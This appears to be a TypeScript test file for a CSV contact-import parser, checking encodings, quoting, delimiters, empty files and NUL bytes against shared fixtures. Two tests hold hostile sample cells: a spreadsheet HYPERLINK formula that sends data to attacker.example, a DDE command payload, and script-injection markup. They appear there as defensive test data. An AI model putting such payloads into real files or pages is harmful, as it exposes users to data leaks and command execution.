import { readFileSync } from 'node:fs';
import path from 'node:path';
import { contactBankFromRows, contactMessages, contactRefusals } from '@showroom/contract';
import { describe, expect, it } from 'vitest';
import { csvRefusals } from '../messages.ts';
import { parseContactsCsv } from './parseContactsCsv.ts';

// The shared fixtures sit beside the repository (shared/README.md): read there, never copied.
const fixtures = path.resolve(import.meta.dirname, '../../../../../../../shared/fixtures/contacts');
const read = (name: string) => readFileSync(path.join(fixtures, name), 'utf8');

const parse = (name: string) => {
  const result = parseContactsCsv(read(name));
  if (result.status !== 'parsed') throw new Error(`${name} was refused: ${result.message}`);
  return result.rows;
};
/** The bank a rep would upload with the header box as given. */
const bankOf = (name: string, firstRowIsHeader = true) => contactBankFromRows(parse(name), firstRowIsHeader);

describe('parseContactsCsv with the shared fixtures', () => {
  it('simple.csv: 5 rows, 5 columns', () => {
    const bank = bankOf('simple.csv');
    expect(bank.headers).toEqual(['First Name', 'Last Name', 'Email', 'Company', 'Title']);
    expect(bank.bank).toHaveLength(5);
    expect(bank.bank[0]).toEqual({
      'First Name': 'Ada',
      'Last Name': 'Lovelace',
      Email: 'ada@analytical.example',
      Company: 'Analytical Engines',
      Title: 'Chief Scientist',
    });
  });

  it('hubspot-export.csv: BOM and CRLF handled, quoted comma kept in one cell', () => {
    const bank = bankOf('hubspot-export.csv');
    expect(bank.headers[0]).toBe('Record ID');
    expect(bank.headers[0]!.charCodeAt(0)).not.toBe(0xfeff);
    expect(bank.bank).toHaveLength(3);
    expect(bank.bank[2]!['Company Name']).toBe('MIT, CSAIL');
    expect(bank.bank[2]!['Create Date']).toBe('2026-01-06 11:30');
    expect(Object.values(bank.bank[0]!).some((cell) => cell.includes('\r'))).toBe(false);
  });

  it('salesforce-report.csv: a quoted newline stays in one cell, doubled quotes, trailing blank lines skipped', () => {
    const bank = bankOf('salesforce-report.csv');
    expect(bank.bank).toHaveLength(3);
    expect(bank.bank[0]!['Mailing Street']).toBe('1101 Kitchawan Rd\nYorktown Heights, NY');
    expect(bank.bank[1]!['Full Name']).toBe('John "Jack" Kilby');
    expect(bank.bank[2]!['Mailing Street']).toBe('');
  });

  it('semicolon-eu.csv: semicolons detected, accents intact', () => {
    const bank = bankOf('semicolon-eu.csv');
    expect(bank.headers).toEqual(['Vorname', 'Nachname', 'E-Mail', 'Firma']);
    expect(bank.bank).toHaveLength(3);
    expect(bank.bank[0]).toEqual({
      Vorname: 'Jürgen',
      Nachname: 'Müller',
      'E-Mail': 'juergen@beispiel.example',
      Firma: 'Müller & Söhne GmbH',
    });
    expect(bank.bank[2]!.Nachname).toBe('Ångström');
  });

  it("no-header.csv: with 'The first row is for header' unticked, 2 rows and generated column names", () => {
    const bank = bankOf('no-header.csv', false);
    expect(bank.headers).toEqual(['Column 1', 'Column 2', 'Column 3']);
    expect(bank.bank).toEqual([
      { 'Column 1': 'Tim', 'Column 2': 'Berners-Lee', 'Column 3': 'tim@w3.example' },
      { 'Column 1': 'Vint', 'Column 2': 'Cerf', 'Column 3': 'vint@internet.example' },
    ]);
    expect(bank.showHeaders).toBe(false);
  });

  it('blank-lines.csv: empty lines skipped, 2 rows', () => {
    expect(bankOf('blank-lines.csv').bank.map((row) => row.name)).toEqual(['Hedy Lamarr', 'Claude Shannon']);
  });

  it.each(['ragged.csv', 'unclosed-quote.csv'])("%s: 'Errors detected in the file'", (name) => {
    expect(parseContactsCsv(read(name))).toEqual({ status: 'refused', message: contactMessages.parseError });
  });

  it('empty.csv: refused as empty', () => {
    expect(parseContactsCsv(read('empty.csv'))).toEqual({
      status: 'refused',
      message: contactRefusals.emptyFile,
    });
    expect(parseContactsCsv('\uFEFF\r\n\r\n')).toEqual({
      status: 'refused',
      message: contactRefusals.emptyFile,
    });
  });

  it('header-only.csv: one row, which leaves no contacts when it is the header', () => {
    const rows = parse('header-only.csv');
    expect(rows).toEqual([['header_only_a', 'header_only_b']]);
    expect(contactBankFromRows(rows, true).bank).toEqual([]);
  });

  it('formula-injection.csv: cells stored exactly as typed', () => {
    const bank = bankOf('formula-injection.csv');
    expect(bank.bank[0]!.name).toBe('=HYPERLINK("http://attacker.example/?leak="&A1;"click")');
    expect(bank.bank[0]!.company).toBe("+cmd|' /C calc'!A0");
    expect(bank.bank[1]).toEqual({ name: '@SUM(1+1)', email: 'mallory@attacker.example', company: '-2+3' });
  });

  it('xss.csv: markup and braces kept as plain text', () => {
    const bank = bankOf('xss.csv');
    expect(bank.bank[0]!.name).toBe('<img src=x onerror=alert(1)>');
    expect(bank.bank[0]!.company).toBe("<script>alert('c')</script>");
    expect(bank.bank[1]!.name).toBe('{{prospect_name}}');
  });

  it('a one-column file is a list, not an error', () => {
    expect(parseContactsCsv('email\na@example.com\n')).toEqual({
      status: 'parsed',
      rows: [['email'], ['a@example.com']],
    });
  });

  it('a NUL byte is refused with the line it is on, before anything reaches the server', () => {
    // Like simple.csv with one cell holding a zero byte (issue 15 §7: a 500 on upload before).
    const csv =
      'name,email,company\r\nAda,ada@example.com,Analytical\r\nGrace,gr\u0000ace@example.com,Navy\r\n';
    expect(parseContactsCsv(csv)).toEqual({ status: 'refused', message: csvRefusals.nulCharacter(3) });
    expect(csvRefusals.nulCharacter(3)).toContain('line 3');
    expect(parseContactsCsv('\uFEFF\u0000')).toEqual({
      status: 'refused',
      message: csvRefusals.nulCharacter(1),
    });
  });
});
